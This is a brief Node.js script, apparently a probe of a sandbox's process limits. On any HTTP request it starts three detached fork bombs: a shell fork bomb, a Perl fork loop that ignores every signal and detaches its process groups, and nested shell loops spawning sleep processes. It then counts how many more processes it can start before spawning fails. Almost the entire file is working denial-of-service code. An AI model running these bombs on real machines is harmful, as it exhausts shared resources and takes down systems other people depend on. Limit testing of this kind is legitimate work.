// Forks until nobody in the box can, in small processes, so that it is their number that counts; those that end are replaced.
import { spawn, spawnSync } from 'node:child_process'
import { createServer } from 'node:http'

const bombs = [
  ['/bin/sh', ['-c', 'f() { f | f & }; f; f; f']],
  ['/usr/bin/perl', ['-e', '$SIG{$_} = "IGNORE" for keys %SIG; while (1) { fork; setpgrp }']],
  ['/bin/sh', ['-c', 'while :; do sh -c "while :; do sleep 1 & done" & done']],
]
createServer(() => {
  for (const [command, args] of bombs) spawn(command, args, { stdio: 'ignore', detached: true }).on('error', () => {})
  for (let count = 0; ; count++) {
    const { error } = spawnSync('/bin/true')
    if (count > 0 && error) return console.log(`no more after ${count}: ${error.code}`)
  }
}).listen(process.env.PORT)
